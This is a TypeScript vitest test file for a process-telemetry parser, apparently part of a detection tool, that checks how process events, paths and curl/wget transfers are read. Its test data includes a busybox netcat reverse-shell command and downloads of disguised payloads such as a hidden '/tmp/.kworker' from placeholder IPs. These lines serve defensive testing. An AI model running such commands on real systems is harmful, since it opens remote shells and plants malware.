import { describe, expect, it } from 'vitest';
import { operandPaths, readProcess, resolvePath, transferOf } from './process-facts';
import { proc, words } from './test-helpers';

describe('readProcess', () => {
  it('reads nested event documents', () => {
    const f = readProcess(proc('cat /etc/hosts', { id: 'p1', parent: 'sh1', cwd: '/app', t: Date.UTC(2026, 0, 1) }));
    expect(f).toMatchObject({
      key: 'p1', entity_id: 'p1', parent_entity_id: 'sh1', name: 'cat', executable: '/bin/cat', args: ['cat', '/etc/hosts'], working_directory: '/app', time: Date.UTC(2026, 0, 1),
    });
  });

  it('reads dotted keys and falls back to @timestamp and the executable name', () => {
    const f = readProcess({ 'process.entity_id': 'p2', 'process.executable': '/usr/bin/id', 'process.args': ['id'], '@timestamp': '2026-01-01T00:00:01Z' });
    expect(f).toMatchObject({ entity_id: 'p2', name: 'id', time: Date.UTC(2026, 0, 1, 0, 0, 1) });
  });

  it('reads session-tree processes', () => {
    const f = readProcess({ entity_id: 'p3', parent_entity_id: 'sh', name: 'ls', executable: '/bin/ls', args: ['ls'], start: 1_700_000_000_000, working_directory: '/' });
    expect(f).toMatchObject({ entity_id: 'p3', parent_entity_id: 'sh', name: 'ls', time: 1_700_000_000_000 });
  });

  it('unwraps busybox applets for matching and keeps what was recorded', () => {
    const f = readProcess(proc('busybox nc 203.0.113.50 4444 -e /bin/sh'));
    expect(f.name).toBe('nc');
    expect(f.args).toEqual(['nc', '203.0.113.50', '4444', '-e', '/bin/sh']);
    expect(f.recorded_name).toBe('busybox');
    expect(f.recorded_args[0]).toBe('busybox');
  });

  it('makes a key for processes without an entity id, and tolerates junk', () => {
    const a = readProcess({ process: { name: 'ls', args: ['ls'] } });
    const b = readProcess({ process: { name: 'ls', args: ['ls', '-la'] } });
    expect(a.entity_id).toBeNull();
    expect(a.key).not.toBe(b.key);
    expect(readProcess({ process: { args: 'id', start: 'not a time' } })).toMatchObject({ name: 'id', args: ['id'], time: null });
  });
});

describe('resolvePath', () => {
  it.each([
    ['/tmp/x', null, '/tmp/x'],
    ['x', '/app', '/app/x'],
    ['./x', '/app', '/app/x'],
    ['../x', '/app/sub', '/app/x'],
    ['/tmp//a/./b/../c/', null, '/tmp/a/c'],
    ['x', null, 'x'],
    ['~/.bashrc', '/root', '~/.bashrc'],
  ] as const)('%s in %s is %s', (path, cwd, expected) => {
    expect(resolvePath(path, cwd)).toBe(expected);
  });

  it('treats everything after -- as operands', () => {
    expect(operandPaths(readProcess(proc('rm -rf -- -weird x', { cwd: '/app' })))).toEqual(['/app/-weird', '/app/x']);
  });
});

describe('transferOf', () => {
  const t = (line: string, cwd = '/app') => transferOf(readProcess(proc(line, { cwd })));
  it.each([
    ['curl -o /tmp/x http://203.0.113.50/x', { remote: true, outputs: ['/tmp/x'], toStdout: false }],
    ['curl -sSLo agent https://198.51.100.23/agent', { remote: true, outputs: ['/app/agent'], toStdout: false }],
    ['curl -o/tmp/y https://198.51.100.23/agent', { remote: true, outputs: ['/tmp/y'], toStdout: false }],
    ['curl -O https://example.com/dl/tool.tar.gz?sig=1', { remote: true, outputs: ['/app/tool.tar.gz'], toStdout: false }],
    ['curl --output-dir /opt -O https://example.com/tool', { remote: true, outputs: ['/opt/tool'], toStdout: false }],
    ['curl -XPOST -H "X-Origin: example" https://example.com/hook', { remote: true, outputs: [], toStdout: true }],
    ['curl -fsSL http://203.0.113.50/x.sh', { remote: true, outputs: [], toStdout: true }],
    ['curl -s -o /dev/null -w "%{http_code}" https://example.com', { remote: true, outputs: [], toStdout: false }],
    ['curl localhost:8080/health', { remote: false, outputs: [], toStdout: true }],
    ['curl http://user@127.0.0.1:8080/x', { remote: false, outputs: [], toStdout: true }],
    ['curl http://[::1]:8080/x', { remote: false, outputs: [], toStdout: true }],
    ['wget http://198.51.100.23/kworker', { remote: true, outputs: ['/app/kworker'], toStdout: false }],
    ['wget 198.51.100.23/kworker', { remote: true, outputs: ['/app/kworker'], toStdout: false }],
    ['wget -q -O /tmp/.kworker http://198.51.100.23/kworker', { remote: true, outputs: ['/tmp/.kworker'], toStdout: false }],
    ['wget -P /opt/dl https://example.com/', { remote: true, outputs: ['/opt/dl/index.html'], toStdout: false }],
    ['wget -qO- http://203.0.113.50/x.sh', { remote: true, outputs: [], toStdout: true }],
    ['wget -O - http://203.0.113.50/x.sh', { remote: true, outputs: [], toStdout: true }],
    ['wget --spider https://example.com', { remote: true, outputs: [], toStdout: false }],
  ])('%s', (line, expected) => {
    expect(t(line)).toEqual(expected);
  });

  it('is null for other processes', () => {
    expect(t('cat /etc/hosts')).toBeNull();
  });

  it('splits quoted words like a shell', () => {
    expect(words(`sh -c "echo 'a b' > x"`)).toEqual(['sh', '-c', "echo 'a b' > x"]);
  });
});
